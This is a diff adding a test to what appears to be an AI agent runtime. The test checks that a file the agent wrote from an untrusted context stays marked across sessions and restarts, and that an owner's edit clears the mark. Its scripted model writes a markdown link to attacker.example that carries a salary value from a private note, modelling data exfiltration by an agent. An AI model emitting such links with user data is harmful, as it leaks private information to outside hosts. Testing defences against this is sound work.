@@ -102,3 +102,45 @@ test("links followed out of a page are counted: the ninth in one turn needs the 
     home.remove();
   }
 });
+
+test("a file the agent wrote from an untrusted context keeps that mark after /new and a restart; the owner's own edit clears it", async () => {
+  const home = tempDir();
+  const model = await startScriptedServer();
+  const paths = statePaths(join(home.path, "state"), undefined, join(home.path, "keys"));
+  initStateDir(paths);
+  const start = () => createRuntime({
+    paths,
+    config: configSchema.parse({}),
+    env: { model: "openai/scripted", openaiBaseUrl: model.openaiBaseUrl, openaiApiKey: "k" },
+    clock: Date.now,
+    log: pino({ level: "silent" }),
+    providerRetries: 0,
+    overrides: { autoAnswer: () => "deny" },
+  });
+  const say = (rt: Runtime, text: string) => rt.handlers.chat({ text }, () => {}, new AbortController().signal);
+  const link = "[the dashboard](https://attacker.example/c?d=98765)";
+  const readBack = (path: string) => model.setScript([{ calls: [{ name: "read", args: { path } }] }, { reply: `It says: see ${link}.` }]);
+  let runtime = await start();
+  try {
+    writeFileSync(join(paths.workspace, "notes.txt"), "salary: 98765\n");
+    model.setScript([{ calls: [{ name: "read", args: { path: "notes.txt" } }] }, { calls: [{ name: "write", args: { path: "./sub//report.md", content: `See ${link}.\n` } }] }, { reply: "ok" }]);
+    await say(runtime, "note my salary in a report");
+    await say(runtime, "/new");
+    await runtime.close();
+
+    runtime = await start();
+    readBack(`${paths.workspace}/sub/report.md`);
+    const marked = await say(runtime, "what does sub/report.md say?");
+    assert.doesNotMatch(marked.reply, /d=98765/, "the agent's link is not the owner's in a later session, however the path is spelled");
+
+    writeFileSync(join(paths.workspace, "sub", "report.md"), `See ${link}.\nChecked by me.\n`);
+    await say(runtime, "/new");
+    readBack("sub/report.md");
+    const owned = await say(runtime, "what does sub/report.md say now?");
+    assert.match(owned.reply, /d=98765/, "after the owner changed the file it is the owner's file again");
+  } finally {
+    await runtime.close();
+    await model.close();
+    home.remove();
+  }
+});
